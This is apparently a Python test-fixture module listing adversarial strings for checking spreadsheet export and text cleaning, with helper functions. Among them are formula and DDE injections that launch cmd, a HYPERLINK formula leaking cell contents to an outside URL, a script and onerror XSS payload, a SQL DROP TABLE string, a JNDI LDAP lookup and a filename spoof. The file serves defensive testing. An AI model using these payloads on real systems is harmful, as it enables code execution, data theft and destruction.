"""Texts that do harm where they are taken for more than text, or are cut, or are not looked at; and what is to be shown of each.

    from payloads import PAYLOADS, shown
"""

import re

PAYLOADS = {
    # A cell that is a formula to whoever opens it again.
    "equals": "=cmd|'/C calc'!A0", "plus": "+1+1", "minus": "-2+3", "at": "@SUM(1)", "tab": "\t=1+1\tX", "dde": '=DDE("cmd";"/C calc";"x")',
    "array": "{=1+1}", "link": '=HYPERLINK("http://example.cn/?"&A1,"x")', "url": "http://example.cn/", "mail": "mailto:a@example.cn", "file": "file:///etc/passwd",
    "apostrophe": "'=1+1", "wide equals": "＝1+1",
    # Ends of lines.
    "lf": "A\nB", "cr": "A\rB", "crlf": "A\r\nB", "line separator": "A\u2028B", "next line": "A\x85B",
    # Markup, other languages and our own templates.
    "script": "<script>alert(1)</script>", "image": '"><img src=x onerror=alert(1)>', "comment": "a<!-- b --!> c", "cdata": "<![CDATA[x]]> ]]>", "entity": "&lt;&amp;&#65;&nbsp;",
    "sql": "'); DROP TABLE x;--", "printf": "%s%n%d", "slots": "{1}{2+}{0}", "template": "${jndi:ldap://x}{{7*7}}", "backslash": "C:\\新建\\n\\u0041", "quotes": "\"a\" 'b' `c` “d”",
    "marks": "a,b;c|d", "blanks": "a  b   c",
    # What a workbook takes for a character.
    "escaped cr": "_x000D_", "escaped letter": "_x0041_", "escaped underscore": "_x005F_x0041_", "escaped nul": "_x0000_", "escaped half": "_xD800_", "nearly escaped": "_x00_ _x004G_",
    # Controls, and what is no character at all.
    "esc": "\x1b[31mESC\x1b[0m", "bell": "\x07bell\x08", "nul": "A\0B", "csi": "\x9b31mC1", "del": "A\x7fB",
    "noncharacter": "A\ufffeB", "last": "A\uffffB", "half": "A\ud800B", "other half": "A\udc00B", "beyond": "𠮷野家😀\U000e0001",
    # What turns, hides or piles up.
    "override": "\u202egnp.exe", "isolate": "\u2066x\u2069", "marks of order": "A\ufeffB", "zero width": "A\u200bB\u200dC", "wide blanks": "\u00a0x\u3000",
    "zalgo": "Z" + "\u0301\u0327" * 5000,
    # Types that a reader might see in them.
    "digits": "007", "exponent": "1e5", "date": "2020-01-02", "truth": "TRUE", "error": "A #REF!",
    # At the limit of a workbook's cell, and beyond.
    "full": "x" * 32767, "over": "y" * 32768, "long": "汉" * 40000, "pairs": "😀" * 20000,
}
CELL = 32767

_BLANKS = "\t\n\v\f\r \x85\u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000"


def shown(text):
    """What a person wrote, less what nobody writes on purpose: the contract's words (section 2), once more."""
    text = re.sub("[\ud800-\udfff]", "\ufffd", text)
    text = re.sub("\r\n?", "\n", text).replace("\t", " ")
    return re.sub("[\x00-\x09\x0b-\x1f\x7f-\x9f\ufeff]", "", text).strip(_BLANKS)


def units(text):
    """The length that a workbook counts."""
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def in_workbook(text):
    """What a cell of our workbook holds of a shown text: noncharacters are U+FFFD; "_x0041_" takes six units more; the rest is cut off."""
    text = re.sub("[\ufffe\uffff]", "\ufffd", text)
    if units(re.sub("_(?=x[0-9a-fA-F]{4}_)", "_x005F_", text)) <= CELL:
        return text
    return text.encode("utf-16-le")[:2 * CELL].decode("utf-16-le", "ignore")
